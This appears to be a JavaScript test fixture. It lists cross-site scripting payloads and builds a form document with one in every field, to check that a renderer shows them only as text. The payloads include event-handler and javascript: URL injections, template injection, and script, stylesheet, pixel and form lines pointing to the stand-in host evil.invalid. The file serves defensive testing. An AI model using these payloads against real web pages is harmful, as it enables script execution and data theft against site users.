// Script and markup that must only ever show as text. Any that ran would open a dialog, set
// window.__xss, break the page's CSP or fetch from evil.invalid (which the tests watch for).
export const PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '<svg onload=alert(1)>',
  'javascript:alert(1)',
  '</textarea><script>window.__xss=1</script>',
  '\'"><img src=x onerror=window.__xss=1>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click me</a>',
  '<body onload=alert(1)>',
  "{{constructor.constructor('alert(1)')()}}",
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '" onmouseover="alert(1)',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  "<style>@import 'http://evil.invalid/x.css';</style>",
  '<link rel=stylesheet href=http://evil.invalid/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="http://evil.invalid/">',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-literal payload, meant to stay text
  '${alert(1)}',
  '<script src=http://evil.invalid/x.js></script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<video><source onerror=alert(1)></video>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<img src="http://evil.invalid/pixel.png">',
  '<form action="http://evil.invalid/"><button>Send</button></form>',
];

/**
 * A document with a payload in every field the definition has, of every kind (where a number,
 * an option or a yes/no belongs too: the wrong type, shown as text), in every list, as evidence
 * titles (checkbox labels) and ids (references), and as unknown keys.
 */
export function payloadDocument(def) {
  let i = 0;
  const next = () => PAYLOADS[i++ % PAYLOADS.length];
  const value = (field) => {
    switch (field.kind) {
      case 'object': {
        const o = {};
        for (const child of field.fields) o[child.key] = value(child);
        return o;
      }
      case 'textList':
        return [next(), next()];
      case 'idList':
        return [PAYLOADS[0], PAYLOADS[1], next()];
      case 'objectList':
        return [0, 1].map((k) => {
          const o = value({ kind: 'object', fields: field.fields });
          if (field.key === 'evidence') o.id = PAYLOADS[k];
          return o;
        });
      default:
        return next();
    }
  };
  const doc = { formVersion: def.formVersion };
  for (const section of def.sections) {
    for (const field of section.fields) {
      const tokens = field.path.slice(1).split('/');
      let o = doc;
      for (const t of tokens.slice(0, -1)) o = o[t] ??= {};
      o[tokens.at(-1)] = value(field);
    }
  }
  // The acknowledgements are drawn with the warnings they acknowledge, not as a section.
  doc.acknowledgements = value(def.acknowledgements);
  doc[PAYLOADS[2]] = PAYLOADS[3];
  doc.about[PAYLOADS[4]] = PAYLOADS[5];
  return doc;
}
